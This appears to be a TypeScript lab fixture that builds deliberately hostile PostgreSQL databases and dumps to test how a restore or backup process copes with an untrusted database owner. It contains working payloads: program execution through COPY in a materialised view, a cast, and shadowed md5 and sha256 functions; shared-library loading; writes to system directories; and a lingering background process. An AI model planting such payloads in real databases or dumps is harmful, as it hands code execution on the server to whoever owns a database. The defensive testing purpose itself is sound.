import { createHash } from 'node:crypto'
import type { LabHost } from '../../../scripts/lab/index.ts'
import { sql } from './postgres.ts'

export const CANARY = 'canary 77a1c3'
export const sha256 = createHash('sha256').update(CANARY).digest('hex')

/** Where a program of a dump tries to leave something. */
export const WRITTEN = ['/tmp', '/var/tmp', '/dev/shm', '/etc', '/run', '/var/lib', '/mnt'].map((to) => `${to}/hostile`)

/** What a program of a dump does: it writes where it can, and reaches for the network. */
export function attack(reach: string): string {
  return `for f in ${WRITTEN.join(' ')}; do echo x > $f; done; bash -c '${reach}'; true`
}

/** Leaves a process of its own, too. */
export const LASTING = '(setsid nohup sleep 4711 >/dev/null 2>&1 &)'

/** Dumps one database as its owner would, where only root can read it. */
export async function dump(host: LabHost, database: string, name = database): Promise<void> {
  const argv = ['pg_dump', '--format=custom', `--file=/tmp/${name}.dump`, database]
  await host.exec(['runuser', '-u', 'postgres', '--', ...argv])
  await host.exec(['install', '--mode=0600', `/tmp/${name}.dump`, `/var/backups/${name}.dump`])
  await host.exec(['rm', `/tmp/${name}.dump`])
}

/** A database of the role `erp`, which may do nothing on the server but own it. */
export async function makeDatabase(host: LabHost, name: string, text: string): Promise<void> {
  await sql(host, 'postgres', `create database "${name}" owner erp`)
  await sql(host, name, `set role erp; ${text}`)
}

/** A materialised view that runs a program, but only where it is restored. */
export function programInView(program: string): string {
  return `create table seen (t text);
    create function run() returns setof text language plpgsql as $f$ begin
      if current_database() = 'scratch' then copy public.seen from program ${quoted(`${program}; echo done`)}; end if;
      return query select 'x'::text; end $f$;
    create materialized view m as select * from run();`
}

/** Lays a library where it can, loads it into the server, and says so; but only where it is restored. */
const LIBRARY = `create function load() returns setof text language plpgsql as $f$ declare place text; library oid; begin
  if current_database() = 'scratch' then
    foreach place in array array['/tmp', '/var/tmp', '/dev/shm', current_setting('data_directory')] loop begin
      library := lo_import((select setting from pg_config where name = 'PKGLIBDIR') || '/pgcrypto.so');
      perform lo_export(library, place || '/own.so');
      execute format('load %L', place || '/own.so');
      raise exception using errcode = 'ZZ001', message = 'a library was loaded from ' || place;
    exception when others then if sqlstate = 'ZZ001' then raise; end if; end; end loop;
  end if; end $f$;
  create materialized view loaded as select * from load();`

/** Only a superuser may make one, so the restore has to be one as well. */
export const EVENT_TRIGGER = `reset role; create function et() returns event_trigger language plpgsql as $f$ begin end $f$;
  create event trigger e on ddl_command_start execute function et(); set role erp; ${LIBRARY}`

/**
 * What the mere owner of a database can lay out for whoever reads it: ways to write a row as text, and functions with the
 * names of the server's own that a search path of the database puts first. Each runs a program if its caller may.
 */
export function trap(name: string, program: string): string {
  const run = `begin copy (select 1) to program ${quoted(program)}; exception when insufficient_privilege then null; end;`
  const body = (result: string) => `language plpgsql as $f$ begin ${run} return ${result}; end $f$`
  return `create table notes (text text);
    insert into notes select 'note ' || i from generate_series(1, 300) i; insert into notes values ('${CANARY}');
    create function spoken(notes) returns text ${body("'x'")};
    create cast (notes as text) with function spoken(notes);
    create function md5(text) returns text ${body("'00'")};
    create function sha256(bytea) returns bytea ${body("'\\x00'::bytea")};
    alter database "${name}" set search_path = public, pg_catalog;`
}

function quoted(text: string): string {
  return `'${text.replaceAll("'", "''")}'`
}
